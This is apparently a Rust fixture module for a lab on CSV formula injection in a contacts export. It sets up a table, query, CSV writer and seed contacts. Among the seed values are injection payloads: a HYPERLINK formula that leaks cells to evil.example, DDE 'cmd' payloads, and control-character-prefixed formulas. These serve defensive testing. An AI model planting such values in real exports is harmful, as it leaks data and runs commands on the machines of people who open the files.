//! What every variant shares: the contacts table and its rows as their owners typed them,
//! the query, the CSV format (Django's `csv.writer`: RFC 4180, `\r\n` line ends) and the
//! export's signature.

use std::io::Write;

use rusqlite::{Connection, Row};
use serde::Serialize;

/// One way of writing the contacts export: every variant and every candidate fix has this
/// signature. It reads the table through `conn` and writes the CSV file into `out`.
pub type ExportFn = fn(conn: &Connection, out: &mut dyn Write) -> Result<(), ExportError>;

/// Why an export could not be written.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("sqlite: {0}")]
    Sqlite(#[from] rusqlite::Error),
    #[error("csv: {0}")]
    Csv(#[from] csv::Error),
    #[error("io: {0}")]
    Io(#[from] std::io::Error),
}

/// The table Django creates for a `Contact` model in the `crm` app.
pub const SCHEMA: &str = "
CREATE TABLE crm_contact (
    id    INTEGER PRIMARY KEY,
    name  TEXT NOT NULL,
    phone TEXT NOT NULL,
    note  TEXT NOT NULL
);
";

/// The header row and the column order of the export.
pub const COLUMNS: [&str; 4] = ["id", "name", "phone", "note"];

/// What `Contact.objects.order_by("id")` asks SQLite.
pub const SELECT_SQL: &str = "SELECT id, name, phone, note FROM crm_contact ORDER BY id";

/// One contact, as its owner typed it into a form.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Contact {
    pub id: i64,
    pub name: String,
    pub phone: String,
    pub note: String,
}

impl Contact {
    /// Reads a row of [`SELECT_SQL`].
    pub fn from_row(row: &Row<'_>) -> rusqlite::Result<Self> {
        Ok(Self {
            id: row.get(0)?,
            name: row.get(1)?,
            phone: row.get(2)?,
            note: row.get(3)?,
        })
    }

    /// The contact's cells in [`COLUMNS`] order.
    pub fn cells(&self) -> [String; 4] {
        [
            self.id.to_string(),
            self.name.clone(),
            self.phone.clone(),
            self.note.clone(),
        ]
    }
}

/// The export's CSV writer over `out`: quoting and escaping by the `csv` crate, every
/// record ended by `\r\n` as Python's `csv.writer` does by default.
pub fn csv_writer<W: Write>(out: W) -> csv::Writer<W> {
    csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out)
}

/// The contacts users typed in: legitimate values a spreadsheet would misread (a phone
/// number with its country code, a rating of `-5`, a note that starts with a dash) and
/// payloads an attacker typed into a sign-up form.
const SEED: [(&str, &str, &str); 12] = [
    (
        "Ada Lovelace",
        "+44 20 7946 0958",
        "met at the London meetup",
    ),
    (
        "Hopper, Grace",
        "555-0100",
        "says \"call after 5\", mornings busy",
    ),
    ("Linus Rating", "555 0199", "-5"),
    (
        "Zoë Ångström",
        "+46 8 123 456",
        "- prefers email\n- no calls on Fridays",
    ),
    (
        "=HYPERLINK(\"https://evil.example/?leak=\"&C2&C3,\"Ada's profile\")",
        "555 0105",
        "nice to meet you",
    ),
    ("Mallory", "555 0106", "=cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "555 0107", ""),
    ("Eve", "+1+cmd|' /C calc'!A0", "call me"),
    ("Tab Leader", "555 0109", "\t=1+2"),
    ("Return Leader", "555 0110", "\r=1+2"),
    ("Newline Leader", "555 0111", "\n=1+2"),
    ("Nul Leader", "555 0112", "\0=1+2"),
];

/// The seeded contacts, ids from 1.
pub fn seed_contacts() -> Vec<Contact> {
    SEED.iter()
        .zip(1..)
        .map(|(&(name, phone, note), id)| Contact {
            id,
            name: name.to_owned(),
            phone: phone.to_owned(),
            note: note.to_owned(),
        })
        .collect()
}

/// A fresh in-memory database holding `contacts`.
pub fn database(contacts: &[Contact]) -> rusqlite::Result<Connection> {
    let conn = lab_kit::sqlite::memory()?;
    conn.execute_batch(SCHEMA)?;
    let mut insert =
        conn.prepare("INSERT INTO crm_contact (id, name, phone, note) VALUES (?1, ?2, ?3, ?4)")?;
    for c in contacts {
        insert.execute((c.id, &c.name, &c.phone, &c.note))?;
    }
    drop(insert);
    Ok(conn)
}
